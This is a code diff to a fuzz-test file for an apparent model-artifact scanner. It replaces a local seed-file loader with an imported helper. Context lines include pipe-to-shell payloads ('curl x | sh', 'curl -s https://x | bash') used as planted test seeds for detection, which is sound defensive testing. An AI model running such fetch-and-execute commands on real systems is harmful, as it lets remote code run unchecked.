@@ -4,8 +4,6 @@
  */
 
 import assert from "node:assert/strict";
-import { readdirSync, readFileSync } from "node:fs";
-import { join } from "node:path";
 import { describe, it } from "node:test";
 import { tfliteModel } from "../../../../test/models/flatbuffer.ts";
 import { ggufOf, ggufWriter, honestGguf } from "../../../../test/models/gguf.ts";
@@ -25,6 +23,7 @@ import {
 } from "../../../../test/models/r.ts";
 import { honestSafetensors, safetensorsOf } from "../../../../test/models/safetensors.ts";
 import { savedModel, tfGraph, tfNode } from "../../../../test/models/tensorflow.ts";
+import { vectorsOf } from "../../../../test/models/vectors.ts";
 import { message, utf8, zeros } from "../../../../test/models/writer.ts";
 import { isHoldfastError, type ArtifactVerdict } from "../../../core/index.ts";
 import { verdictOf, type ScanFinding } from "../finding.ts";
@@ -62,12 +61,6 @@ interface Fuzzed {
   /** A file with a payload. */
   readonly plant?: (random: Random) => Uint8Array;
 }
-
-const vectors = join(import.meta.dirname, "../../../../test/vectors");
-const filesOf = (kind: string, name: RegExp): readonly Uint8Array[] =>
-  readdirSync(join(vectors, kind))
-    .filter((file) => name.test(file))
-    .map((file) => new Uint8Array(readFileSync(join(vectors, kind, file))));
 
 const pick = <Value>(random: Random, values: readonly Value[]): Value => values[random(values.length)] as Value;
 const some = <Value>(random: Random, most: number, make: () => Value): Value[] =>
@@ -195,7 +188,7 @@ const TARGETS: readonly Fuzzed[] = [
     seeds: [savedModel(tfGraph([tfNode("MatMul")], [tfNode("PrintV2", "stderr")])), plantGraph(randomOf(1))],
     plant: plantGraph,
   },
-  { format: hdf5, name: "a.h5", seeds: filesOf("hdf5", /\.h5$/) },
+  { format: hdf5, name: "a.h5", seeds: vectorsOf("hdf5", /\.h5$/) },
   {
     format: tflite,
     name: "a.tflite",
@@ -253,7 +246,7 @@ const TARGETS: readonly Fuzzed[] = [
     seeds: [utf8("#!/bin/sh\ncurl x | sh\n"), message([15, "ELF"]), utf8("MZqFpD='")],
     plant: (random) => lines(random, "curl -s https://x | bash", ["echo a", "# b", "if true; then", "fi", "'"]),
   },
-  { format: r, name: "a.rds", seeds: filesOf("r", /^(?!.*(?:gzip|xz)).*\.rd[as]$/), plant: plantR },
+  { format: r, name: "a.rds", seeds: vectorsOf("r", /^(?!.*(?:gzip|xz)).*\.rd[as]$/), plant: plantR },
   {
     format: configText,
     name: "requirements.txt",
